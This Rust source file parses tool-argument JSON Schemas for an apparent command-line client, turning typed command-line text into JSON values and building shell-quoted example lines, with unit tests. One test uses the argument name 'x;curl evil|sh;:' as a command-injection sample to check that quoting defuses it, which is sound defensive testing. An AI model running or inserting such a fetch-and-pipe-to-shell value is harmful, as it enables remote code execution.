//! What the schema of a tool says about its arguments: names, types, an example of each, and
//! which value a text on the command line stands for.

use std::collections::{HashSet, VecDeque};

use serde_json::{Map, Value};
use switchboard_gateway::config::nearest;

use crate::exit::{CommandError, CommandResult};
use crate::output::cell;

/// References that are followed; a schema may lead in circles.
const DEPTH: usize = 8;
/// The types of JSON Schema. A type that is none of them says nothing.
const KINDS: [&str; 7] = ["array", "boolean", "integer", "null", "number", "object", "string"];
/// Whole numbers below this are exact in JSON as most programs read it.
const EXACT: f64 = 9_007_199_254_740_992.0;
/// Choices that are named in a table.
const CHOICES: usize = 6;

/// The arguments that a tool takes.
pub(super) struct ToolArguments<'s> {
    schema: &'s Value,
}

impl<'s> ToolArguments<'s> {
    pub(super) fn new(schema: &'s Value) -> Self {
        Self { schema }
    }

    /// The schemas that all arguments together have to fit.
    fn roots(&self) -> impl Iterator<Item = &'s Value> {
        let root = self.resolve(self.schema);
        let parts = root["allOf"].as_array().into_iter().flatten();
        std::iter::once(root).chain(parts.map(|part| self.resolve(part)))
    }

    /// Each with its schema, which may be a reference.
    fn each(&self) -> impl Iterator<Item = (&'s str, &'s Value)> {
        let properties = self.roots().filter_map(|root| root["properties"].as_object()).flatten();
        let mut seen = HashSet::new();
        let properties = properties.filter(move |(name, _)| seen.insert(name.as_str()));
        properties.map(|(name, schema)| (name.as_str(), schema))
    }

    fn is_needed(&self, name: &str) -> bool {
        let mut needed = self.roots().filter_map(|root| root["required"].as_array()).flatten();
        needed.any(|it| it == name)
    }

    /// Whether the tool may take arguments that are not among these.
    pub(super) fn has_others(&self) -> bool {
        self.roots().any(|root| {
            let others = &root["additionalProperties"];
            let is_one_of = ["anyOf", "oneOf"].iter().any(|name| root[name].is_array());
            is_one_of || others.is_object() || *others == true
        })
    }

    /// The needed ones that are not given.
    pub(super) fn missing(&self, given: &Map<String, Value>) -> Vec<&'s str> {
        let names = self.each().map(|(name, _)| name);
        names.filter(|name| self.is_needed(name) && !given.contains_key(*name)).collect()
    }

    /// What a reference within the schema leads to.
    fn resolve(&self, schema: &'s Value) -> &'s Value {
        let mut schema = schema;
        for _ in 0..DEPTH {
            let place = schema["$ref"].as_str().and_then(|place| place.strip_prefix('#'));
            match place.and_then(|place| self.schema.pointer(place)) {
                Some(next) => schema = next,
                None => break,
            }
        }
        schema
    }

    /// A member of a schema, or of what it refers to: a default may stand beside a reference.
    fn member(&self, schema: &'s Value, name: &str) -> Option<&'s Value> {
        let said = schema.get(name).or_else(|| self.resolve(schema).get(name));
        said.filter(|value| !value.is_null())
    }

    /// The schemas that a value has to fit, or may fit, if there are several.
    fn branches(&self, schema: &'s Value) -> impl Iterator<Item = &'s Value> {
        let several = ["allOf", "anyOf", "oneOf"];
        let several = several.into_iter().filter_map(|name| schema[name].as_array());
        several.flatten().map(|branch| self.resolve(branch))
    }

    /// The JSON types of the values that fit, each once. The walk visits each schema once, for
    /// branches that refer to each other would multiply.
    fn kinds(&self, schema: &'s Value) -> Vec<&'s str> {
        let (mut kinds, mut seen) = (Vec::new(), HashSet::new());
        let mut open = VecDeque::from([self.resolve(schema)]);
        while let Some(schema) = open.pop_front() {
            if !seen.insert(std::ptr::from_ref(schema)) {
                continue;
            }
            let own: Vec<_> = match &schema["type"] {
                Value::String(kind) => vec![kind.as_str()],
                Value::Array(kinds) => kinds.iter().filter_map(Value::as_str).collect(),
                _ => choices(schema).map(kind_of).chain(implied_kind(schema)).collect(),
            };
            if own.is_empty() {
                open.extend(self.branches(schema));
            }
            for kind in own {
                if KINDS.contains(&kind) && !kinds.contains(&kind) {
                    kinds.push(kind);
                }
            }
        }
        kinds
    }

    /// The type in a few words.
    fn words(&self, schema: &'s Value, depth: usize) -> String {
        let schema = self.resolve(schema);
        let all: Vec<_> = choices(schema).collect();
        if !all.is_empty() {
            let shown = all.iter().take(CHOICES).map(|value| match value.as_str() {
                Some(text) => cell(&text.into()),
                None => value.to_string(),
            });
            let more = (all.len() > CHOICES).then(|| "…".to_owned());
            return shown.chain(more).collect::<Vec<_>>().join(" | ");
        }
        let kinds = self.kinds(schema).into_iter().filter(|kind| *kind != "null");
        let words = kinds.map(|kind| match kind {
            "array" if depth < DEPTH => match self.words(self.array_item(schema, 0), depth + 1) {
                items if items == ANY => "list".to_owned(),
                items => format!("list of {items}"),
            },
            kind => cell(&kind.into()),
        });
        match words.collect::<Vec<_>>().join(" or ") {
            none if none.is_empty() => ANY.to_owned(),
            words => words,
        }
    }

    /// A row of a table for each: its name, its type, whether it is needed, and what it is.
    pub(super) fn rows(&self) -> impl Iterator<Item = Vec<String>> {
        self.each().map(|(name, schema)| {
            let needed = if self.is_needed(name) { "yes" } else { "" };
            let default = self.member(schema, "default");
            let default = default.map(|default| format!("default {default}"));
            let about = [self.member(schema, "description").map(cell), default];
            let about = about.into_iter().flatten().filter(|text| !text.is_empty());
            let about = about.collect::<Vec<_>>().join("; ");
            vec![cell(&name.into()), self.words(schema, 0), needed.to_owned(), cell(&about.into())]
        })
    }

    /// Words for the command line that give the tool what it needs.
    pub(super) fn example(&self) -> Vec<String> {
        let needed = self.each().filter(|(name, _)| self.is_needed(name));
        needed.map(|(name, schema)| self.example_of(name, schema)).collect()
    }

    fn example_of(&self, name: &str, schema: &'s Value) -> String {
        // The server chooses the name, and people paste the line into a shell.
        let name = &quoted(name);
        let examples = self.member(schema, "examples").and_then(|examples| examples.get(0));
        let said = [self.member(schema, "default"), examples, choices(self.resolve(schema)).next()];
        let value = said.into_iter().flatten().find(|value| !value.is_null());
        match value {
            Some(Value::String(text)) => return format!("{name}={}", quoted(text)),
            Some(value @ (Value::Bool(_) | Value::Number(_))) => return format!("{name}={value}"),
            Some(value) => return format!("{name}:={}", quoted(&value.to_string())),
            None => {}
        }
        match self.kinds(schema).into_iter().find(|kind| *kind != "null") {
            Some("integer" | "number") => format!("{name}=1"),
            Some("boolean") => format!("{name}=true"),
            Some("array") => format!("{name}:='[]'"),
            Some("object") => format!("{name}:='{{}}'"),
            _ => match self.member(schema, "format").and_then(Value::as_str) {
                Some("uri" | "url") => format!("{name}=https://example.com"),
                Some("date") => format!("{name}=2026-01-31"),
                Some("date-time") => format!("{name}=2026-01-31T12:00:00Z"),
                _ => format!("{name}=text"),
            },
        }
    }

    /// The value that a text stands for. A text that the schema says nothing about stays one.
    pub(super) fn read(&self, name: &str, text: &str) -> CommandResult<Value> {
        let Some((_, schema)) = self.each().find(|(other, _)| *other == name) else {
            self.check_name(name)?;
            let mut others = self.roots().filter_map(|root| root.get("additionalProperties"));
            return Ok(others.find_map(|it| self.typed(it, text, 0)).unwrap_or(text.into()));
        };
        self.typed(schema, text, 0).ok_or_else(|| {
            let words = self.words(schema, 0);
            CommandError::new(format!("{name} wants {words}, which {text:?} is not"))
                .hint(format!("for anything else, write {name}:=JSON"))
        })
    }

    /// A name that the tool does not have is a mistake, if the schema says so or it looks like
    /// another one.
    fn check_name(&self, name: &str) -> CommandResult {
        let names = || self.each().map(|(name, _)| name);
        let near = nearest(name, names());
        let is_closed = self.roots().any(|root| {
            root["additionalProperties"] == false && root["patternProperties"].is_null()
        });
        if self.has_others() || !(is_closed || near.is_some()) {
            return Ok(());
        }
        let failure = CommandError::new(format!("the tool has no argument {name:?}"));
        Err(match near {
            Some(near) => failure.hint(format!("did you mean {near:?}?")),
            None => failure.hint(format!("it takes {}", names().collect::<Vec<_>>().join(", "))),
        })
    }

    fn typed(&self, schema: &'s Value, text: &str, depth: usize) -> Option<Value> {
        let kinds = self.kinds(schema);
        if kinds.is_empty() || kinds.contains(&"string") || depth > DEPTH {
            return Some(text.into());
        }
        let json = || serde_json::from_str::<Value>(text).ok();
        // Larger ones would silently become others.
        let is_exact = |it: f64| it.fract() == 0.0 && it.abs() < EXACT;
        let is_whole = |value: &Value| {
            value.is_i64() || value.is_u64() || value.as_f64().is_some_and(is_exact)
        };
        let value = kinds.iter().find_map(|kind| match *kind {
            "integer" => json().filter(is_whole),
            "number" => json().filter(Value::is_number),
            "boolean" => match text.to_ascii_lowercase().as_str() {
                "true" | "yes" | "on" => Some(true.into()),
                "false" | "no" | "off" => Some(false.into()),
                _ => None,
            },
            "null" => (text == "null").then_some(Value::Null),
            "array" if text.trim_start().starts_with('[') => json().filter(Value::is_array),
            "array" if text.is_empty() => Some(Value::Array(Vec::new())),
            "object" => json().filter(Value::is_object),
            _ => None,
        });
        // Almost any text is a list with commas, so all other types come first.
        let is_list = kinds.contains(&"array") && !text.trim_start().starts_with('[');
        value.or_else(|| {
            let parts = text.split(',').enumerate();
            let parts = parts
                .map(|(at, part)| self.typed(self.array_item(schema, at), part.trim(), depth + 1));
            if is_list { parts.collect() } else { None }
        })
    }

    /// The schema of an item of an array, which may be one of several branches.
    fn array_item(&self, schema: &'s Value, at: usize) -> &'s Value {
        let schema = self.resolve(schema);
        let mut all = std::iter::once(schema).chain(self.branches(schema));
        let of_place = |schema: &'s Value| {
            let items = schema.get("items");
            // Before 2020-12, `items` may be a list of schemas.
            schema["prefixItems"].get(at).or_else(|| items?.get(at)).or(items)
        };
        all.find_map(of_place).map_or(&NOTHING, |item| self.resolve(item))
    }
}

/// The schema of a value of which nothing is known.
static NOTHING: Value = Value::Null;
/// What such a value is called.
const ANY: &str = "any";

/// The values that are allowed, if they are listed.
fn choices(schema: &Value) -> impl Iterator<Item = &Value> {
    let listed = schema["enum"].as_array().into_iter().flatten();
    listed.chain(schema.get("const"))
}

/// The type of which a schema says something without naming it.
fn implied_kind(schema: &Value) -> Option<&'static str> {
    let says = |names: [&str; 2]| names.iter().any(|name| schema.get(name).is_some());
    match () {
        () if says(["properties", "additionalProperties"]) => Some("object"),
        () if says(["items", "prefixItems"]) => Some("array"),
        () => None,
    }
}

fn kind_of(value: &Value) -> &'static str {
    match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    }
}

/// A word as a shell takes it.
pub(super) fn quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-./:@%+,=".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn schema() -> Value {
        json!({
            "type": "object",
            "$defs": {"Colour": {"enum": ["red", "green"]}, "Loop": {"$ref": "#/$defs/Loop"}, "Part": {"type": "integer"}},
            "properties": {
                "count": {"type": "integer"},
                "size": {"type": ["number", "null"], "description": "How large\nor small"},
                "deep": {"type": "boolean", "default": false},
                "title": {"type": "string"},
                "tags": {"type": "array", "items": {"type": "integer"}},
                "maybe": {"anyOf": [{"type": "array", "items": {"type": "string"}}, {"type": "null"}]},
                "colour": {"$ref": "#/$defs/Colour"},
                "options": {"type": "object"},
                "query": {"anyOf": [{"type": "array", "items": {"type": "string"}}, {"type": "object"}]},
                "round": {"$ref": "#/$defs/Loop"},
                "part": {"allOf": [{"$ref": "#/$defs/Part"}], "default": 3, "title": "Part"},
                "said": {"$ref": "#/$defs/Part", "description": "Beside it"},
                "shape": {"properties": {"a": {}}},
                "pair": {"prefixItems": [{"type": "integer"}, {"type": "boolean"}]},
            },
            "required": ["count", "title", "colour", "options"],
        })
    }

    #[test]
    fn a_text_becomes_what_the_schema_says() {
        let schema = schema();
        let arguments = ToolArguments::new(&schema);
        for (name, text, value) in [
            ("count", "1", json!(1)),
            ("size", "1.5", json!(1.5)),
            ("size", "null", json!(null)),
            ("deep", "true", json!(true)),
            ("title", "1", json!("1")),
            ("tags", "1, 2", json!([1, 2])),
            ("tags", "[3]", json!([3])),
            ("tags", "", json!([])),
            ("maybe", "a,b", json!(["a", "b"])),
            ("maybe", "null", json!(null)),
            ("query", "a,b", json!(["a", "b"])),
            ("query", r#"{"a":1,"b":2}"#, json!({"a": 1, "b": 2})),
            ("colour", "red", json!("red")),
            ("options", r#"{"a":1}"#, json!({"a": 1})),
            ("round", "1", json!("1")),
            ("part", "1", json!(1)),
            ("said", "1", json!(1)),
            ("shape", r#"{"a":1}"#, json!({"a": 1})),
            ("pair", "1,true", json!([1, true])),
            ("other", "1", json!("1")),
        ] {
            assert_eq!(arguments.read(name, text).unwrap(), value, "{name}={text}");
        }
        for (name, text) in [
            ("count", "1.5"),
            ("count", "123456789012345678901234567890"),
            ("shape", "a"),
            ("pair", "true,1"),
            ("count", "x"),
            ("deep", "perhaps"),
            ("tags", "a"),
            ("query", "[a"),
            ("options", "1"),
        ] {
            let failure = arguments.read(name, text).unwrap_err().to_string();
            assert!(failure.contains(&format!("{name}:=JSON")), "{failure}");
        }
    }

    #[test]
    fn a_name_that_is_nearly_right_is_a_mistake() {
        let mut schema = schema();
        let near = ToolArguments::new(&schema).read("colours", "red").unwrap_err().to_string();
        assert!(near.contains("did you mean \"colour\"?"), "{near}");
        schema["additionalProperties"] = json!(false);
        let strange = ToolArguments::new(&schema).read("zzz", "1").unwrap_err().to_string();
        assert!(strange.contains("it takes colour, count"), "{strange}");
        schema["additionalProperties"] = json!({"type": "integer"});
        assert_eq!(ToolArguments::new(&schema).read("colours", "7").unwrap(), 7);
    }

    #[test]
    fn types_and_examples_are_for_people() {
        let schema = schema();
        let arguments = ToolArguments::new(&schema);
        let rows: Vec<_> = arguments.rows().map(|row| row.join("/")).collect();
        for row in [
            "count/integer/yes/",
            "size/number//How large",
            "deep/boolean//default false",
            "tags/list of integer//",
            "maybe/list of string//",
            "colour/red | green/yes/",
            "round/any//",
            "part/integer//default 3",
            "said/integer//Beside it",
        ] {
            assert!(rows.iter().any(|it| it == row), "no {row} in {rows:?}");
        }
        let example = arguments.example().join(" ");
        assert_eq!(example, "colour=red count=1 options:='{}' title=text");
        assert_eq!(arguments.missing(&Map::new()), ["colour", "count", "options", "title"]);
    }

    #[test]
    fn a_schema_that_refers_to_itself_costs_no_more_than_its_size() {
        let branches = vec![json!({"$ref": "#/$defs/A"}); 40];
        let mut kinds = ["array", "null"].repeat(40);
        kinds.push("no type");
        let schema = json!({
            "$defs": {"A": {"anyOf": branches}, "L": {"type": kinds, "items": {"$ref": "#/$defs/L"}}},
            "properties": {"a": {"$ref": "#/$defs/A"}, "l": {"$ref": "#/$defs/L"}},
        });
        let arguments = ToolArguments::new(&schema);
        let rows: Vec<_> = arguments.rows().map(|row| row[1].clone()).collect();
        assert_eq!(rows[0], "any");
        assert!(rows[1].starts_with("list of list of") && rows[1].len() < 100, "{}", rows[1]);
        assert_eq!(arguments.read("a", "1").unwrap(), json!("1"));
    }

    #[test]
    fn arguments_are_found_behind_references_and_in_all_parts() {
        let schema = json!({
            "$ref": "#/$defs/Input",
            "$defs": {
                "Base": {"properties": {"a": {"type": "integer"}}, "required": ["a"]},
                "Input": {
                    "properties": {"b": {"type": "boolean"}},
                    "allOf": [{"$ref": "#/$defs/Base"}, {"properties": {"b": {}, "c": {}}}],
                },
            },
        });
        let arguments = ToolArguments::new(&schema);
        let names: Vec<_> = arguments.each().map(|(name, _)| name).collect();
        assert_eq!((names, arguments.example().join(" ")), (vec!["b", "a", "c"], "a=1".to_owned()));
        assert!(!arguments.has_others());
        for open in [json!({"oneOf": [{}, {}]}), json!({"allOf": [{"additionalProperties": {}}]})] {
            assert!(ToolArguments::new(&open).has_others(), "{open}");
        }
    }

    #[test]
    fn an_example_quotes_the_name_that_the_server_chose() {
        let name = "x;curl evil|sh;:";
        for schema in [json!({}), json!({"default": 1}), json!({"type": "object"})] {
            let schema = json!({"properties": {name: schema}, "required": [name]});
            let example = ToolArguments::new(&schema).example().join(" ");
            assert!(example.starts_with("'x;curl evil|sh;:'"), "{example}");
        }
    }

    #[test]
    fn a_word_is_quoted_as_a_shell_takes_it() {
        assert_eq!(["a", "a b", "it's", ""].map(quoted), ["a", "'a b'", r"'it'\''s'", "''"]);
    }
}
